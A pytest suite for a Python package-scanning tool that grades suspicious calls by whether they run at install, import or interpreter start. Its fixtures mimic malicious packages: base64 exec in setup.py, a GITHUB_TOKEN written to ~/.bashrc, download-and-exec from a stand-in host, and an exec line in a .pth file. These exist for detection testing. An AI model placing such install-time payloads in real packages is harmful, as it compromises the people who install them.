"""The heuristics scanner on real sdists and wheels: reachability decides severity.

The same call is ``medium`` (a capability) or ``critical`` (evidence) where it runs by itself
(setup.py and what it calls, cmdclass commands pip's build runs, in-tree backends, .pth lines,
module top level) and ``info``/``low`` where it does not (``__main__`` and argv guards,
functions nothing calls, tests and docs, files the install does not contain).
"""

from __future__ import annotations

import pytest
from scanner_trees import sdist_tree, wheel_tree

from shouldi.results import Severity, Status
from shouldi.scanners import CodeScanner
from shouldi.scanners.heuristics import RULES, HeuristicsScanner, scanner
from shouldi.scanners.heuristics.rules import Kind, Reach

TOP = "demo-1.0"
C, H, M, L, INFO = (Severity.CRITICAL, Severity.HIGH, Severity.MEDIUM, Severity.LOW,
                    Severity.INFO)


def scan(tmp_path, files, wheel=False):
    tree = (wheel_tree if wheel else sdist_tree)(tmp_path, files)
    result = HeuristicsScanner().scan(tree)
    assert result.status is Status.OK, result.reason
    return result


def hits(result, prefix=TOP + "/"):
    return {(f.rule, f.file.removeprefix(prefix), f.line, f.severity) for f in result.findings}


def severity_of(result, rule, prefix=TOP + "/"):
    found = {f.severity for f in result.findings if f.rule == rule}
    assert len(found) == 1, (rule, sorted(hits(result, prefix)))
    return found.pop()


SETUP_PY = """\
import base64
import os
import subprocess
from setuptools import setup
from setuptools.command.install import install

PAYLOAD = "cHJpbnQoJ2hpJyk="
exec(base64.b64decode(PAYLOAD))


class PostInstall(install):
    def run(self):
        install.run(self)
        subprocess.call(["make", "docs"])
        token = os.environ["GITHUB_TOKEN"]
        with open(os.path.expanduser("~/.bashrc"), "a") as f:
            f.write(token)


exec(open("demo/version.py").read())
setup(name="demo", cmdclass={"install": PostInstall})
"""

INIT_PY = """\
import base64, zlib
import urllib.request

data = urllib.request.urlopen("https://example.invalid/x").read()
code = zlib.decompress(base64.b64decode(data))
exec(code)


def helper():
    import subprocess
    subprocess.run(["ls"])
"""

UTIL_PY = """\
import base64
import importlib
import subprocess
from base64 import b64decode as d


def run():
    subprocess.run(["git", "status"])
    importlib.import_module(run.__name__)


def sneaky(blob):
    x = d(blob)
    y = x.decode()
    eval(y)
"""


def test_is_a_code_scanner():
    assert isinstance(HeuristicsScanner(), CodeScanner)
    assert HeuristicsScanner.name == "heuristics"


def test_install_import_and_runtime_code(tmp_path):
    result = scan(tmp_path, {"setup.py": SETUP_PY, "demo/__init__.py": INIT_PY,
                             "demo/util.py": UTIL_PY, "demo/version.py": "__version__ = '1'\n"})
    assert hits(result) == {
        ("exec-decoded-data", "setup.py", 8, C),  # top of setup.py: the build runs it
        ("custom-install-command", "setup.py", 11, L),
        ("process-spawn", "setup.py", 14, M),  # a capability in PostInstall.run
        ("secret-env", "setup.py", 15, L),
        ("persistence", "setup.py", 16, H),  # appends to ~/.bashrc at install time
        ("exec-dynamic", "setup.py", 20, L),  # the version reader: not evidence
        ("network", "demo/__init__.py", 4, M),  # a request on import
        ("download-exec", "demo/__init__.py", 6, C),  # what was downloaded is exec'd
        ("process-spawn", "demo/__init__.py", 11, INFO),  # inside a function nothing calls
        ("process-spawn", "demo/util.py", 8, INFO),
        ("dynamic-import", "demo/util.py", 9, INFO),
        ("exec-decoded-data", "demo/util.py", 15, L),  # evidence, but only when called
    }
    counts = result.counts
    assert counts["exec-decoded-data"] == 2 and counts["process-spawn"] == 3
    assert counts["severity_critical"] == 2 and counts["severity_high"] == 1
    assert counts["python_files"] == 4 and counts["files"] == 5  # + PKG-INFO
    critical = next(f for f in result.findings if f.rule == "exec-decoded-data" and f.line == 8)
    assert critical.check == "heuristics" and critical.path == (f"{TOP}/setup.py",)
    assert critical.message.endswith(f"(runs at install time: {TOP}/setup.py)")
    persistence = next(f for f in result.findings if f.rule == "persistence")
    assert persistence.path == (f"{TOP}/setup.py", "cmdclass['install'] = PostInstall",
                                f"{TOP}/setup.py:PostInstall.run")


# -- reachability: one capability call, many places -------------------------------------------

CALL = "os.system('make all')"


@pytest.mark.parametrize(("files", "severity"), [
    ({"setup.py": f"import os\n{CALL}\n"}, M),
    ({"setup.py": f"import os, sys\nif sys.argv[-1] == 'publish':\n    {CALL}\n"}, INFO),
    ({"setup.py": f"import os, sys\nif 'upload' not in sys.argv:\n    {CALL}\n"}, M),
    ({"setup.py": f"import os, sys\nif len(sys.argv) > 1 and sys.argv[1] == 'install':\n"
                  f"    {CALL}\n"}, M),
    ({"setup.py": f"import os\nif __name__ == '__main__':\n    {CALL}\n"}, M),  # runs as main
    ({"setup.py": f"import os\ndef unused():\n    {CALL}\n"}, INFO),
    ({"setup.py": f"import os\ndef helper():\n    {CALL}\nhelper()\n"}, M),
    ({"setup.py": f"import os\ndef outer():\n    def inner():\n        {CALL}\n    return 1\n"
                  "outer()\n"}, INFO),
    ({"setup.py": f"import os\ndef outer():\n    def inner():\n        {CALL}\n    inner()\n"
                  "outer()\n"}, M),
    ({"demo/__init__.py": f"import os\n{CALL}\n"}, M),
    ({"demo/__init__.py": f"import os\nif __name__ == '__main__':\n    {CALL}\n"}, INFO),
    ({"demo/__init__.py": f"import os, sys\nif sys.platform != 'win32' and "
                          f"__name__ == '__main__':\n    {CALL}\n"}, INFO),
    ({"demo/__init__.py": f"import os\nRELEASED = True\nif not RELEASED:\n    {CALL}\n"}, INFO),
    ({"demo/__init__.py": f"import os\ndef f():\n    {CALL}\n"}, INFO),
    ({"demo/__init__.py": f"import atexit, os\ndef f():\n    {CALL}\natexit.register(f)\n"}, M),
    ({"demo/__init__.py": f"import os, threading\ndef f():\n    {CALL}\n"
                          "threading.Thread(target=f).start()\n"}, M),
    ({"demo/__init__.py": f"import os\nHANDLERS = {{}}\ndef register(k, f):\n    HANDLERS[k] = f\n"
                          f"def f():\n    {CALL}\nregister('x', f)\n"}, INFO),  # kept, not run
    ({"demo/__init__.py": f"import os\ndef run_now(f):\n    f()\ndef f():\n    {CALL}\n"
                          "run_now(f)\n"}, M),  # a function that calls what it is given
    ({"demo/__init__.py": f"import os\nclass A:\n    def __init__(self):\n        self.go()\n"
                          f"    def go(self):\n        {CALL}\nA()\n"}, M),
    ({"demo/__init__.py": f"import os\nclass A:\n    def __call__(self):\n        {CALL}\n"
                          "a = A()\n"}, INFO),
    ({"demo/__init__.py": "from .core import start\nstart()\n",
      "demo/core.py": f"import os\ndef start():\n    {CALL}\n"}, M),
    ({"demo/__init__.py": "from . import core\n", "demo/core.py": f"import os\n{CALL}\n"}, M),
    ({"demo/__init__.py": "", "demo/extra.py": f"import os\n{CALL}\n"}, L),  # not imported
    ({"tests/test_demo.py": f"import os\n{CALL}\n"}, INFO),
    ({"docs/conf.py": f"import os\n{CALL}\n"}, INFO),
    ({"tools/release.py": f"import os\n{CALL}\n"}, INFO),  # not installed, build never runs it
    ({"setup.py": "from tools.helpers import build\nbuild()\n",
      "tools/helpers.py": f"import os\ndef build():\n    {CALL}\n"}, M),  # ...unless it does
], ids=["setup-top", "setup-argv-publish", "setup-argv-negated", "setup-argv-install",
        "setup-main-guard", "setup-uncalled", "setup-called", "nested-uncalled", "nested-called",
        "init-top", "init-main-guard", "init-and-main-guard", "init-flag-false", "init-uncalled",
        "atexit", "thread-target", "registry", "calls-its-argument", "method-by-name",
        "dunder-call-unused", "imported-function", "imported-module", "submodule",
        "tests", "docs", "extra-file", "extra-file-run-by-build"])
def test_where_a_call_runs_decides_its_severity(tmp_path, files, severity):
    assert severity_of(scan(tmp_path, files), "process-spawn") is severity


@pytest.mark.parametrize(("key", "severity"), [("install", M), ("build_ext", M),
                                               ("egg_info", M), ("upload", INFO),
                                               ("clean", INFO)])
def test_only_commands_the_build_runs_count(tmp_path, key, severity):
    setup = ("import os\nfrom setuptools import Command, setup\n\n"
             "class Cmd(Command):\n    def initialize_options(self):\n        pass\n"
             "    def finalize_options(self):\n        pass\n"
             f"    def run(self):\n        {CALL}\n\n"
             f"setup(name='demo', cmdclass={{'{key}': Cmd}})\n")
    assert severity_of(scan(tmp_path, {"setup.py": setup}), "process-spawn") is severity


def test_unreadable_cmdclass_falls_back_to_build_command_subclasses(tmp_path):
    setup = ("import os\nfrom setuptools import setup\nfrom setuptools.command.build_py import "
             "build_py\n\nclass B(build_py):\n    def run(self):\n"
             f"        {CALL}\n\ndef commands():\n    return {{'build_py': B}}\n\n"
             "setup(name='demo', cmdclass=commands())\n")
    assert severity_of(scan(tmp_path, {"setup.py": setup}), "process-spawn") is M


@pytest.mark.parametrize(("files", "severity"), [
    ({"setup.py": "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"}, C),
    ({"demo/__init__.py": "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"}, C),
    ({"demo/__init__.py": "import base64\ndef f():\n    exec(base64.b64decode('cHJpbnQoMSk='))\n"},
     L),
    ({"demo/__init__.py": "import base64\nif __name__ == '__main__':\n"
                          "    exec(base64.b64decode('cHJpbnQoMSk='))\n"}, INFO),
    ({"demo/__init__.py": "", "demo/x.py": "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"},
     C),  # evidence in a submodule's top level still fails
    ({"tests/test_x.py": "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"}, INFO),
], ids=["setup", "init", "function", "main-guard", "submodule", "tests"])
def test_evidence_severity_follows_reachability(tmp_path, files, severity):
    assert severity_of(scan(tmp_path, files), "exec-decoded-data") is severity


def test_wheels_judge_modules_and_pth_lines(tmp_path):
    files = {
        "demo/__init__.py": f"import os\n{CALL}\n",
        "demo-startup.pth": "import demo_hook\n./vendor\n",
        "demo_hook.py": "import urllib.request\nurllib.request.urlopen('https://example.invalid')\n",
        "demo-1.0.data/scripts/tool.py": f"import os\n{CALL}\n",
    }
    result = scan(tmp_path, files, wheel=True)
    assert hits(result, prefix="") >= {
        ("process-spawn", "demo/__init__.py", 2, M),
        ("pth-import-line", "demo-startup.pth", 1, L),
        ("network", "demo_hook.py", 2, M),
        ("process-spawn", "demo-1.0.data/scripts/tool.py", 2, INFO),
    }
    startup = next(f for f in result.findings if f.rule == "network")
    assert "every interpreter start" in startup.message
    assert result.counts["cap_install_time_code"] == 1


def test_pth_lines_that_decode_and_run(tmp_path):
    pth = ("./vendor\n"
           "import os; exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n"
           "# import nothing\n")
    result = scan(tmp_path, {"evil.pth": pth}, wheel=True)
    assert hits(result, prefix="") == {
        ("pth-import-line", "evil.pth", 2, L),
        ("exec-decoded-data", "evil.pth", 2, C),
    }


def test_in_tree_build_backend_runs_its_hooks(tmp_path):
    files = {
        "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend:api"\n'
                          'backend-path = ["_build"]\n',
        "_build/backend.py": "import os\n\ndef build_wheel(*a):\n    os.system('cc -c x.c')\n\n"
                             "def unused():\n    os.system('rm -rf build')\n",
    }
    assert hits(scan(tmp_path, files)) == {
        ("in-tree-build-backend", "_build/backend.py", None, L),
        ("process-spawn", "_build/backend.py", 4, M),
        ("process-spawn", "_build/backend.py", 7, INFO),
    }


def test_console_scripts_run_when_the_user_runs_them(tmp_path):
    files = {"demo/__init__.py": "", "demo/cli.py": f"import os\ndef main():\n    {CALL}\n",
             "demo-1.0.dist-info/entry_points.txt": "[console_scripts]\ndemo = demo.cli:main\n"}
    finding = next(f for f in scan(tmp_path, files, wheel=True).findings)
    assert finding.severity is INFO
    assert "console script 'demo'" in finding.message


def test_src_layout_and_py_modules(tmp_path):
    files = {"src/demo/__init__.py": f"import os\n{CALL}\n",
             "single.py": f"import os\n{CALL}\n",
             "other.py": f"import os\n{CALL}\n",
             "setup.py": "from setuptools import setup\nsetup(name='demo', py_modules=['single'])\n"}
    found = {(f.file.removeprefix(TOP + "/"), f.severity) for f in scan(tmp_path, files).findings}
    assert found == {("src/demo/__init__.py", M), ("single.py", M), ("other.py", INFO)}


def test_binaries_and_bytecode(tmp_path):
    files = {
        "demo/_speedups.so": b"\x7fELF\x02\x01\x01" + bytes(100),
        "demo/notes.txt": b"\x7fELF\x02\x01\x01",  # the magic decides, not the name
        "demo/helper.exe": b"not really a PE",
        "demo/macho": b"\xcf\xfa\xed\xfe" + bytes(20),
        "demo/mod.cpython-311.pyc": b"\x00" * 16,
        "demo/data.json": b"{}",
    }
    assert hits(scan(tmp_path, files)) == {
        ("binary-file", "demo/_speedups.so", None, L),
        ("binary-file", "demo/notes.txt", None, L),
        ("binary-file", "demo/helper.exe", None, L),
        ("binary-file", "demo/macho", None, L),
        ("compiled-bytecode", "demo/mod.cpython-311.pyc", None, L),
    }
    wheel = scan(tmp_path / "w", {"demo/_speedups.so": b"\x7fELF" + bytes(100),
                                  "demo/__init__.py": ""}, wheel=True)
    assert hits(wheel, prefix="") == {("binary-file", "demo/_speedups.so", None, INFO)}
    assert wheel.counts["cap_native_code"] == 1


def test_unparsable_files(tmp_path):
    result = scan(tmp_path, {"setup.py": "print 'py2 setup'\n", "demo/old.py": "print 'x'\n",
                             "demo/new.py": "x = 1\n"})
    assert hits(result) == {("unparsable-install-code", "setup.py", 1, L)}
    assert result.counts["unparsable_files"] == 2
    assert f"{TOP}/demo/old.py does not parse as Python: Missing parentheses in call to " \
        "'print'. Did you mean print(...)? (line 1)" in result.warnings


def test_nothing_parsable_is_an_error_not_clean(tmp_path):
    tree = sdist_tree(tmp_path, {"demo/__init__.py": "print 'x'\n", "demo/a.py": "exec 'y'\n"})
    result = HeuristicsScanner().scan(tree)
    assert result.status is Status.ERROR
    assert result.reason == "none of the 2 Python files parse"


def test_oversized_file_is_reported_not_parsed(tmp_path, monkeypatch):
    monkeypatch.setattr(scanner, "MAX_FILE_SIZE", 1000)
    result = scan(tmp_path, {"demo/__init__.py": "",
                             "demo/big.py": "exec(__import__('base64').b64decode(x))\n" * 50})
    assert hits(result) == {("file-too-large", "demo/big.py", None, M)}
    assert f"{TOP}/demo/big.py is 2000 bytes: not analysed" in result.warnings


def test_counts_for_the_risk_model(tmp_path):
    files = {
        "setup.py": "import os\nfrom setuptools import setup\nos.system('make')\nsetup()\n",
        "demo/__init__.py": (
            "import ctypes, os, subprocess, urllib.request\n\n"
            "KEY = os.environ.get('HOME')\n"
            "def f(x):\n"
            "    urllib.request.urlopen(x)\n"
            "    subprocess.run(['ls'])\n"
            "    exec(x)\n"
            "    open('/tmp/x', 'w').write(x)\n"
            "    ctypes.CDLL('libc.so.6')\n"
        ),
        "tests/test_x.py": "import os\nos.system('x')\nos.getenv('A')\n",  # not installed
    }
    counts = scan(tmp_path, files).counts
    assert {k: v for k, v in counts.items() if k.startswith("cap_")} == {
        "cap_network": 1, "cap_process": 2, "cap_exec": 1, "cap_file_write": 1,
        "cap_env_access": 1, "cap_native_code": 1, "cap_install_time_code": 1,
        "cap_obfuscation": 0,
    }
    assert counts["loc"] == 4 + 8


def test_empty_tree_is_ok_with_zero_counts(tmp_path):
    result = scan(tmp_path, {})
    assert result.findings == ()
    assert result.counts["python_files"] == 0 and result.counts["cap_network"] == 0
    assert result.counts["files"] == 1


def test_weights_follow_the_directory(tmp_path):
    module = "import os\n\ndef f():\n    os.system('x')\n"
    result = scan(tmp_path, {"demo/a.py": module, "tests/test_a.py": module, "docs/conf.py": module})
    weights = {f.file.removeprefix(TOP + "/"): f.weight for f in result.findings}
    assert weights == {"demo/a.py": 1.0, "tests/test_a.py": 0.25, "docs/conf.py": 0.25}


@pytest.mark.parametrize("rule", sorted(RULES))
def test_rule_severities_follow_the_policy(rule):
    spec = RULES[rule]
    assert spec.severity(Reach.GUARDED) is INFO and spec.severity(Reach.ASIDE) is INFO
    if spec.kind is Kind.EVIDENCE:
        assert spec.severity(Reach.BUILD).rank >= H.rank
        assert spec.severity(Reach.RUNTIME) is L
    elif spec.kind is Kind.CAPABILITY:
        assert spec.severity(Reach.IMPORT) is M and spec.severity(Reach.RUNTIME) is INFO
    else:
        assert spec.severity(Reach.STARTUP).rank <= L.rank
